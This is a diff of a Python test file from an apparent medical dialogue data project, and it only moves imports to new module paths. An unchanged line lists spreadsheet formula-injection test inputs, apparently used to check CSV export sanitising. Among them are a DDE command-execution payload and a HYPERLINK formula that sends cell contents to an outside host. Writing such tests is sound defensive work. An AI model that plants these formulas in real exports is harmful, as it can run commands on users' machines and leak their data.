@@ -14,10 +14,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from lightning_med.data.module import DialogueDataModule
-from lightning_med.data.preparation import prepare
-from lightning_med.data.report import write_report
-from lightning_med.data.splits import SPLITS
-from lightning_med.data.spreadsheet import armed, as_csv, disarmed
+from lightning_med.data.preparation.pipeline import prepare
+from lightning_med.data.report.data_report import write_report
+from lightning_med.data.report.spreadsheet import armed, as_csv, disarmed
+from lightning_med.data.splits.group_split import SPLITS
 from tests.conftest import consultation
 
 FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.io?"&A1,"a")', "\t=1", "\r=1")
